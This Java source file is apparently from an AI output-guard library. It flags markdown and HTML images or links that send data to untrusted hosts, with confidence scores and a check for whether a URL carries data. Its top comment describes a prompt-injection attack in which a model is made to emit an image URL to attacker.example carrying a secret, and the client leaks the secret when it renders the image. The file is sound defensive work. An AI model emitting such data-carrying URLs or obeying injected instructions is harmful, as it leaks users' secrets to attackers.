package io.trustplane.core.guard.output;

import com.google.re2j.Matcher;
import com.google.re2j.Pattern;
import io.trustplane.core.guard.Finding;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Finds markdown and HTML images and links in an output that point outside the trusted domains.
 *
 * <p>The attack: an injected instruction makes the model emit {@code ![](https://attacker.example/p?d=SECRET)};
 * the chat client renders the image and fetches the URL without any click, delivering the data. So an
 * image to an untrusted host whose URL carries data (a long query or path segment) is flagged with high
 * confidence, a link carrying data with medium confidence (it needs a click), and an untrusted image
 * without data is reported below the threshold (it may be a tracking pixel or simply a picture).
 *
 * <p>A domain in the trusted set also trusts its subdomains. Relative URLs and {@code data:} images do
 * not leave the page and are ignored. With no trusted domains configured every host is untrusted.
 */
final class ExfiltrationCheck {
    private static final int MAX_HITS = 32;
    private static final Pattern MD_IMAGE = Pattern.compile("!\\[([^\\]\\n]*)\\]\\(\\s*<?([^)\\s>]+)");
    private static final Pattern MD_LINK = Pattern.compile("\\[[^\\]\\n]*\\]\\(\\s*<?([^)\\s>]+)");
    private static final Pattern MD_IMAGE_REF = Pattern.compile("!\\[[^\\]\\n]*\\]\\[([^\\]\\n]+)\\]");
    private static final Pattern MD_REF_DEF = Pattern.compile("(?m)^[ \\t]{0,3}\\[([^\\]\\n]+)\\]:[ \\t]*<?(\\S+?)>?(?:[ \\t]|$)");
    private static final Pattern HTML_IMG = Pattern.compile("(?i)<img\\b[^>]*?\\bsrc\\s*=\\s*[\"']?([^\"'\\s>]+)");
    /** A base64 or hex blob mixing letters and digits: long enough to smuggle a secret. */
    private static final Pattern ENCODED_BLOB = Pattern.compile(
            "^(?:[A-Za-z0-9+=_-]*[0-9][A-Za-z0-9+=_-]*[A-Za-z]|[A-Za-z0-9+=_-]*[A-Za-z][A-Za-z0-9+=_-]*[0-9])[A-Za-z0-9+=_-]*$");

    private ExfiltrationCheck() {
    }

    static void find(String text, Set<String> trustedDomains, List<Finding> out) {
        if (text.indexOf("](") < 0 && text.indexOf("]:") < 0 && text.indexOf("<") < 0) {
            return; // no markdown or HTML reference at all: the common case
        }
        Set<String> trusted = new HashSet<>();
        for (String d : trustedDomains) {
            trusted.add(trimDomain(d));
        }
        int[] hits = {0};
        Set<Integer> imageUrlStarts = new HashSet<>();
        Matcher m = MD_IMAGE.matcher(text);
        while (m.find() && hits[0] < MAX_HITS) {
            imageUrlStarts.add(m.start(2));
            check(m.group(2), m.start(2), true, trusted, out, hits);
        }
        m = MD_LINK.matcher(text);
        while (m.find() && hits[0] < MAX_HITS) {
            if (!imageUrlStarts.contains(m.start(1))) {
                check(m.group(1), m.start(1), false, trusted, out, hits);
            }
        }
        m = HTML_IMG.matcher(text);
        while (m.find() && hits[0] < MAX_HITS) {
            check(m.group(1), m.start(1), true, trusted, out, hits);
        }
        if (text.indexOf("]:") >= 0) {
            Set<String> imageLabels = new HashSet<>();
            m = MD_IMAGE_REF.matcher(text);
            while (m.find()) {
                imageLabels.add(m.group(1).trim().toLowerCase(Locale.ROOT));
            }
            m = MD_REF_DEF.matcher(text);
            while (m.find() && hits[0] < MAX_HITS) {
                boolean image = imageLabels.contains(m.group(1).trim().toLowerCase(Locale.ROOT));
                check(m.group(2), m.start(2), image, trusted, out, hits);
            }
        }
    }

    private static void check(String url, int start, boolean image, Set<String> trusted, List<Finding> out, int[] hits) {
        String host = host(url);
        if (host == null || isTrusted(host, trusted)) {
            return;
        }
        boolean carriesData = carriesData(url);
        double confidence;
        String type = image ? "MARKDOWN_IMAGE_EXFILTRATION" : "MARKDOWN_LINK_EXFILTRATION";
        String reason;
        if (image && carriesData) {
            confidence = 0.95;
            reason = "image from untrusted host " + host + " carries data in its URL; rendering it sends the data";
        } else if (image) {
            confidence = 0.45;
            reason = "image from untrusted host " + host;
        } else if (carriesData) {
            confidence = 0.7;
            reason = "link to untrusted host " + host + " carries data in its URL";
        } else {
            return; // an ordinary link
        }
        out.add(new Finding(OutputDetector.NAME, type, start, start + url.length(), confidence, reason));
        hits[0]++;
    }

    /** The lower-cased host of an absolute http(s) or protocol-relative URL; null for anything else. */
    static String host(String url) {
        String rest;
        String lower = url.toLowerCase(Locale.ROOT);
        if (lower.startsWith("https://")) {
            rest = url.substring(8);
        } else if (lower.startsWith("http://")) {
            rest = url.substring(7);
        } else if (lower.startsWith("//")) {
            rest = url.substring(2);
        } else {
            return null;
        }
        int end = rest.length();
        for (int i = 0; i < rest.length(); i++) {
            char c = rest.charAt(i);
            if (c == '/' || c == '?' || c == '#' || c == '\\') {
                end = i;
                break;
            }
        }
        String authority = rest.substring(0, end);
        int at = authority.lastIndexOf('@');
        if (at >= 0) {
            authority = authority.substring(at + 1);
        }
        if (authority.startsWith("[")) {
            int close = authority.indexOf(']');
            return close > 0 ? authority.substring(0, close + 1).toLowerCase(Locale.ROOT) : null;
        }
        int colon = authority.indexOf(':');
        if (colon >= 0) {
            authority = authority.substring(0, colon);
        }
        String host = trimDomain(authority);
        return host.isEmpty() ? null : host;
    }

    private static String trimDomain(String domain) {
        String d = domain.trim().toLowerCase(Locale.ROOT);
        while (d.endsWith(".")) {
            d = d.substring(0, d.length() - 1);
        }
        return d.startsWith("*.") ? d.substring(2) : d;
    }

    static boolean isTrusted(String host, Set<String> trusted) {
        for (String domain = host; ; ) {
            if (trusted.contains(domain)) {
                return true;
            }
            int dot = domain.indexOf('.');
            if (dot < 0) {
                return false;
            }
            domain = domain.substring(dot + 1);
        }
    }

    /**
     * Whether the URL looks like it carries data rather than naming a resource: a query value of 12+
     * characters or with encoded spaces, or a path segment that is a long encoded blob (32+ base64/hex
     * characters mixing letters and digits) or percent-encoded text. Ordinary file names and short
     * parameters such as {@code ?w=800} do not count.
     */
    static boolean carriesData(String url) {
        int fragment = url.indexOf('#');
        String u = fragment >= 0 ? url.substring(0, fragment) : url;
        int query = u.indexOf('?');
        if (query >= 0) {
            for (String param : u.substring(query + 1).split("&", 64)) {
                String value = param.substring(param.indexOf('=') + 1);
                if (value.length() >= 12 || count(value, "%20") + count(value, "+") >= 2) {
                    return true;
                }
            }
            u = u.substring(0, query);
        }
        int schemeEnd = u.indexOf("//");
        int pathStart = u.indexOf('/', schemeEnd < 0 ? 0 : schemeEnd + 2);
        if (pathStart < 0) {
            return false;
        }
        for (String segment : u.substring(pathStart + 1).split("/", 64)) {
            if (count(segment, "%") >= 3 || (segment.length() >= 32 && ENCODED_BLOB.matcher(segment).find())) {
                return true;
            }
        }
        return false;
    }

    private static int count(String s, String what) {
        int n = 0;
        for (int i = s.indexOf(what); i >= 0; i = s.indexOf(what, i + what.length())) {
            n++;
        }
        return n;
    }
}
